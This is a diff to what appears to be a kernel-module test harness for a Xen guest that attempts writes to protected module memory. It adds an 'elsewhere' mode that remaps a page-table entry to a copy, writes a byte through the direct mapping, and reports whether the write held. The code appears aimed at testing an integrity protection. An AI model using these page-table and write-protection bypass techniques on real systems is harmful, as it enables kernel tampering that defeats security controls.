@@ -17,8 +17,11 @@
  *	                   store four bytes, and leave them so
  *	mode=exchange      give the page back to Xen, have it give another one there, and fill
  *	                   that with what was there but for one byte, which stays so
- *	mode=alias         the same through the direct mapping of the same frame
- *	mode=map           the same through a mapping of its own of that frame (vmap)
+ *	mode=alias         as text, through the direct mapping of the same frame
+ *	mode=elsewhere     have the page table lead to a copy of the page behind address=0x...,
+ *	                   of a module, store one byte into the page itself through the direct
+ *	                   mapping, have the page table lead to it again, and leave the byte so
+ *	mode=map           as text, through a mapping of its own of that frame (vmap)
  *	mode=rep           as text, four bytes with rep movsb
  *	mode=wp            as text, by clearing CR0.WP instead; where it stays set,
  *	                   nothing is stored
@@ -418,6 +421,36 @@ static int attack_exchange(void)
 	return 0;
 }
 
+/* attack_elsewhere writes to a page while the page table says that it is not a module's. */
+static int attack_elsewhere(void)
+{
+	unsigned long at = address + PAGE_SIZE, flags;
+	unsigned int level;
+	pte_t *pte = lookup_address(at, &level);
+	struct page *other = alloc_page(GFP_KERNEL);
+	u8 before, tried, after, *to;
+	u64 was;
+
+	if (!address || !pte || level != PG_LEVEL_4K || !other)
+		return -EINVAL;
+	was = READ_ONCE(*(u64 *)pte);
+	to = (u8 *)__va(was & PTE_PFN_MASK) + offset_in_page(at);
+	memcpy(page_address(other), (void *)(at & PAGE_MASK), PAGE_SIZE);
+	local_irq_save(flags);
+	before = READ_ONCE(*(u8 *)at);
+	tried = before ^ FLIP;
+	WRITE_ONCE(*(u64 *)pte, (was & ~PTE_PFN_MASK) | __pa(page_address(other)));
+	asm volatile("invlpg (%0)" : : "r"(at) : "memory");
+	write(to, &tried, 1, false);
+	WRITE_ONCE(*(u64 *)pte, was);
+	asm volatile("invlpg (%0)" : : "r"(at) : "memory");
+	after = READ_ONCE(*(u8 *)at);
+	local_irq_restore(flags);
+	__free_page(other);
+	report(at, before, tried, after);
+	return 0;
+}
+
 static int end(void)
 {
 	struct sched_shutdown s = { .reason = reason };
@@ -459,6 +492,8 @@ static int __init pwn_init(void)
 		return attack_poke();
 	if (!strcmp(mode, "exchange"))
 		return attack_exchange();
+	if (!strcmp(mode, "elsewhere"))
+		return attack_elsewhere();
 	if (!strcmp(mode, "alias"))
 		return attack_text(ALIAS, false);
 	if (!strcmp(mode, "map"))
